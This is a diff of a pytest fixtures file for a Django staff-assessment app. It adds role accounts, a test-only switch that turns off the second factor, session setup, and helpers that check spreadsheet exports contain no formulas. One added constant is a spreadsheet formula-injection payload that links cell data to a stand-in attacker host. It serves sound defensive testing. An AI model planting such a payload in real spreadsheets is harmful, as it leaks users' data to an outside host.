@@ -1,14 +1,19 @@
 """The shared cast of the tests: one account per role, and a small roster they are scoped to."""
 
+import io
+import re
+import time
+import zipfile
 from datetime import date
 
 import pytest
 
+from kaohe.accounts.middleware import LAST_SEEN
 from kaohe.accounts.models import Role, User
 from kaohe.org.models import Cadre, LeadershipTeam, Position, ScoringDepartment, Unit, UnitCategory
 from kaohe.plans.models import AssessmentCycle, AssessmentGroup
 
-PASSWORD = "correct-horse-battery"  # noqa: S105
+PASSWORD = "Correct-horse-battery"  # noqa: S105  (three kinds of character: the password rules)
 
 
 @pytest.fixture(autouse=True)
@@ -26,6 +31,22 @@ def _immediate_tasks(settings):
 def _anchor_file(settings, tmp_path):
     """Each test anchors the audit chain into its own file, never the worktree's var/."""
     settings.AUDIT_ANCHOR_FILE = tmp_path / "audit-anchors.jsonl"
+
+
+@pytest.fixture(autouse=True)
+def _second_factor_only_where_tested(settings):
+    """Like the hasher: the cast logs in with its password alone, and the pages it tests are the business's.
+    The second factor's own tests (accounts/tests/test_second_factor.py) turn the production rule back on
+    with the `second_factor_required` fixture."""
+    settings.SECOND_FACTOR_ROLES = []
+
+
+@pytest.fixture
+def second_factor_required(settings):
+    from kaohe.settings import SECOND_FACTOR_ROLES
+
+    settings.SECOND_FACTOR_ROLES = list(SECOND_FACTOR_ROLES)
+    return settings.SECOND_FACTOR_ROLES
 
 
 def make_unit(code: str, name: str, category: UnitCategory, parent: Unit | None = None) -> Unit:
@@ -88,6 +109,10 @@ def cast(roster):
         "leader": make_user("leader", Role.LEADER),
         "cadre": make_user("cadre", Role.CADRE, cadre=roster["cadres"]["a2"]),
         "outsider": make_user("outsider", Role.LIAISON, unit=roster["units"]["b"]),
+        # 三员: they run the system and see no business data.
+        "sysadmin": make_user("sysadmin", Role.SYSADMIN),
+        "secadmin": make_user("secadmin", Role.SECADMIN),
+        "auditadmin": make_user("auditadmin", Role.AUDITADMIN),
     }
     roster["group"].members.add(users["assessor"])
     return users
@@ -101,6 +126,11 @@ def client_for(client, cast):
         client.logout()
         if name is not None:
             client.force_login(cast[name])
+            # As the login page does: the idle-timeout clock starts at login, so the first page writes no
+            # session (the query-count pins count what a page costs, not the login).
+            session = client.session
+            session[LAST_SEEN] = int(time.time())
+            session.save()
         return client
 
     return login
@@ -153,3 +183,20 @@ def phone_page(browser):
     page = context.new_page()
     yield page
     context.close()
+
+
+HOSTILE_TEXT = '=HYPERLINK("http://evil.example/?"&B3,"详情")'
+
+
+def formula_cells(content: bytes) -> list[str]:
+    """The sheets of an xlsx file that hold a formula (an <f> element), to show an export wrote none."""
+    with zipfile.ZipFile(io.BytesIO(content)) as archive:
+        return [
+            name
+            for name in archive.namelist()
+            if name.startswith("xl/worksheets/") and re.search(rb"<(\w+:)?f[ >/]", archive.read(name))
+        ]
+
+
+def xlsx_bytes(response) -> bytes:
+    return b"".join(response.streaming_content) if response.streaming else response.content
